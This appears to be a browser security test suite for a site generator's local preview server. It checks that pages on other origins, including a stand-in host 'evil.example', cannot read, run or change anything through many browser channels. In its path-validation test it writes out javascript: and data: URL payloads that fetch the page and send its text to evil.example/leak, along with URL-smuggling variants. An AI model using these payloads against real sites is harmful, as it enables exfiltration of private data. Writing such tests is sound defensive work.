// Pages of other sites, in a browser beside the preview: they read nothing of it, run nothing in it, change nothing.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launch, start, stop } from './site.mjs';

const root = mkdtempSync(join(tmpdir(), 'foreign-'));
let browser, preview, address, foreign, leaks = [];

before(async () => {
  for (const folder of ['content', 'themes']) cpSync(folder, join(root, folder), { recursive: true });
  writeFileSync(join(root, 'content/secret.zh.md'), '---\ntitle: 秘密\ndraft: true\n---\n尚未公布\n');
  const options = ['serve', '--drafts', '--root', root, '--port', '0', '--date', '2026-01-01', '--lang', 'en'];
  ({ program: preview, found: address } = await start(options, /http:\/\/[^/]+(?=\/)/));
  foreign = http.createServer((request, response) => {
    if (request.url.startsWith('/leak')) leaks.push(decodeURIComponent(request.url));
    response.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>foreign</title>');
  });
  await new Promise((done) => foreign.listen(0, '127.0.0.1', done));
  browser = await launch(['--host-resolver-rules=MAP evil.example 127.0.0.1']);
});
after(async () => {
  await browser.close();
  await stop(preview);
  foreign.close();
  rmSync(root, { recursive: true });
});

const files = ['client.js', 'changes.js', 'update.js', 'bar.js', 'own.js', 'side.js', 'side.css', 'status.css'];
const own = ['changes', 'page?path=/', 'source?path=/secret/&text=%E5%B0%9A%E6%9C%AA%E5%85%AC%E5%B8%83', 'side?path=/', 'status', 'date?as-of=2027-01-01'];
const endPoints = [
  '/', '/secret/', '/data/tasks.json', '/favicon.svg', '/none/', ...[...files, ...own].map((name) => `/__planpress/${name}`),
];
/** Where foreign pages come from: another host, another name of this machine, and the same host at another port. */
const hosts = ['evil.example', 'localhost', '127.0.0.1'];

/** Everything that a page can do with an address of another site; gives what it got out of it. Runs in the page. */
async function attack(url) {
  const soon = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 1500, 'blocked'))]);
  const element = (name, properties) => soon(new Promise((done) => {
    const node = Object.assign(document.createElement(name), properties, { onload: () => done('loaded'), onerror: () => done('blocked') });
    for (const event of ['loadedmetadata', 'canplay']) node.addEventListener(event, () => done('loaded'));
    document.body.append(node);
  }));
  const asked = (promise) => soon(promise.then(() => 'answered', () => 'blocked'));
  const form = (method, target) => {
    const node = Object.assign(document.createElement('form'), { action: url, method, target });
    document.body.append(node);
    node.submit();
  };
  /** What shows of another window or a frame: its document, and how many frames are in it. */
  const seen = (view) => {
    const found = [];
    try { if (view.document?.body?.textContent) found.push('document'); } catch { /* of another origin */ }
    try { if (view.length) found.push('frames'); } catch { /* gone */ }
    return found.join() || 'blocked';
  };
  const framed = async (name, properties = {}) => {
    const node = Object.assign(document.createElement(name), properties);
    const loaded = soon(new Promise((done) => { node.onload = node.onerror = done; }));
    document.body.append(node);
    if (properties.name) form(properties.method, properties.name);
    await loaded;
    return node.contentWindow ? seen(node.contentWindow) : 'blocked';
  };
  const opened = async (open) => {
    const view = open();
    await new Promise((done) => setTimeout(done, 700));
    const found = seen(view);
    if (!view.closed) view.close();
    return found;
  };
  const styled = (text) => { document.head.append(Object.assign(document.createElement('style'), { textContent: text })); return 'blocked'; };
  const worker = (make) => soon(new Promise((done) => {
    const it = make();
    it.onerror = () => done('blocked');
    (it.port ?? it).onmessage = () => done('ran');
  })).catch(() => 'blocked');
  const blob = URL.createObjectURL(new Blob([`try { importScripts(${JSON.stringify(url)}); postMessage(1); } catch { throw 0; }`]));
  const socket = (it) => soon(new Promise((done) => { it.onopen = () => done('opened'); it.onerror = () => done('blocked'); }));

  return Object.fromEntries(await Promise.all(Object.entries({
    cors: asked(fetch(url)),
    'no cors': asked(fetch(url, { mode: 'no-cors', credentials: 'include' })),
    'post without cors': asked(fetch(url, { method: 'POST', mode: 'no-cors', body: 'x' })),
    'post with a token': asked(fetch(url, { method: 'POST', headers: { 'Planpress-Token': 'x' } })),
    beacon: Promise.resolve(navigator.sendBeacon(url, 'x') && 'blocked'),
    image: element('img', { src: url }),
    script: element('script', { src: url }),
    'module script': element('script', { type: 'module', src: url }),
    import: asked(import(url)),
    style: element('link', { rel: 'stylesheet', href: url }),
    '@import': styled(`@import "${url}";`),
    font: asked(new FontFace('x', `url("${url}")`).load()),
    preload: element('link', { rel: 'preload', as: 'script', href: url }),
    prefetch: element('link', { rel: 'prefetch', href: url }),
    video: element('video', { src: url }),
    audio: element('audio', { src: url }),
    frame: framed('iframe', { src: url }),
    'form into a frame': framed('iframe', { name: `get-${url}`, method: 'GET' }),
    'posted form into a frame': framed('iframe', { name: `post-${url}`, method: 'POST' }),
    object: framed('object', { data: url }),
    embed: framed('embed', { src: url }),
    'window that is opened': opened(() => window.open(url)),
    'form into a window': opened(() => { const view = window.open('', `w-get-${url}`); form('GET', `w-get-${url}`); return view; }),
    'posted form into a window': opened(() => { const view = window.open('', `w-post-${url}`); form('POST', `w-post-${url}`); return view; }),
    worker: worker(() => new Worker(url)),
    'shared worker': worker(() => new SharedWorker(url)),
    'script in a worker': worker(() => new Worker(blob)),
    events: socket(new EventSource(url)),
    socket: socket(new WebSocket(url.replace('http', 'ws'))),
  }).map(async ([way, outcome]) => [way, await Promise.resolve(outcome).catch(() => 'blocked')])));
}

/** What the preview holds that could be changed. */
async function state() {
  const answer = await fetch(`${address}/__planpress/page?path=/secret/`);
  return answer.json();
}

for (const host of hosts) {
  test(`a page of ${host} gets nothing out of any end point`, async () => {
    const context = await browser.newContext();
    const [answered, got] = [[], []];
    // Several at a time: much of it is waiting for what never comes.
    const waiting = [...endPoints];
    const attackAll = async () => {
      const page = await context.newPage();
      page.on('response', (response) => {
        if (response.url().startsWith(address) && response.status() !== 403) answered.push(`${response.status()} ${response.url()}`);
      });
      await page.goto(`http://${host}:${foreign.address().port}/`);
      for (let path = waiting.pop(); path; path = waiting.pop()) {
        const outcomes = await page.evaluate(attack, address + path);
        for (const [way, outcome] of Object.entries(outcomes)) if (outcome !== 'blocked') got.push(`${path}: ${way} ${outcome}`);
      }
    };
    await Promise.all([attackAll(), attackAll(), attackAll(), attackAll()]);
    assert.deepEqual(got, []);
    assert.deepEqual(answered, []);
    assert.equal((await state()).date, '2026-01-01');
    await context.close();
  });
}

/** Values for `path` that are no path of the site. */
const paths = () => {
  const leak = `http://evil.example:${foreign.address().port}/leak`;
  const script = `fetch('/').then((it) => it.text()).then((text) => fetch('${leak}?' + encodeURIComponent(text.slice(0, 99)), { mode: 'no-cors' }))`;
  const page = `${leak.replace('http:', '')}/framed`;
  return [
    `javascript:${script}`, `\tjavascript:${script}`, `java\nscript:${script}`, `JAVASCRIPT:${script}`, ` javascript:${script}`,
    `data:text/html,<script>fetch('${leak}?data')</script>`, `http:${page}`, page, `/\\${page.slice(2)}`, `\\\\${page.slice(2)}`,
    `/\t/${page.slice(2)}`, `/\n/${page.slice(2)}`, `\0/${page}`, `///${page.slice(2)}`, `blob:${address}/x`, 'about:srcdoc',
  ];
};

test('no path makes the page for two languages run or frame what is not of the site', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const answered = [];
  leaks.length = 0;
  await page.goto(`http://evil.example:${foreign.address().port}/`);
  for (const path of paths()) {
    const side = `${address}/__planpress/side?path=${encodeURIComponent(path)}`;
    await page.evaluate((url) => { window.open(url); }, side);
    const typed = await context.newPage();
    // To the browser, an answer without a page is an error.
    await typed.goto(side).catch(() => null);
    if ((await context.request.get(side)).status() !== 400) answered.push(path);
    await typed.waitForTimeout(200);
    await typed.close();
  }
  await page.waitForTimeout(1000);
  assert.deepEqual(leaks, []);
  assert.deepEqual(answered, []);
  await context.close();
});

test('the scripts of the preview know a path of the site from everything else', async () => {
  const page = await browser.newPage();
  await page.goto(`${address}/about/`);
  const judged = (paths) => page.evaluate(async (paths) => {
    const { own } = await import('/__planpress/own.js');
    return paths.map((path) => own(path));
  }, paths);
  assert.deepEqual(await judged(paths()), paths().map(() => null));
  assert.deepEqual(
    await judged(['/', '/en/plan/', '/a//b/', '/.//evil.example/', '/%2F/evil.example/', '/秘密/']),
    ['/', '/en/plan/', '/a//b/', '//evil.example/', '/%2F/evil.example/', '/%E7%A7%98%E5%AF%86/'].map((path) => address + path),
  );
  await page.close();
});

test('a page that is led to from elsewhere is shown, without a tie to the one that led there', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`http://evil.example:${foreign.address().port}/`);
  const opening = context.waitForEvent('page');
  await page.evaluate((url) => { window.other = window.open(url); }, `${address}/secret/`);
  const opened = await opening;
  await opened.waitForFunction(() => document.querySelector('h1')?.textContent === '秘密');
  assert.equal(await opened.evaluate(() => window.opener), null);
  assert.equal(await page.evaluate(() => window.other.closed), true);
  await context.close();
});
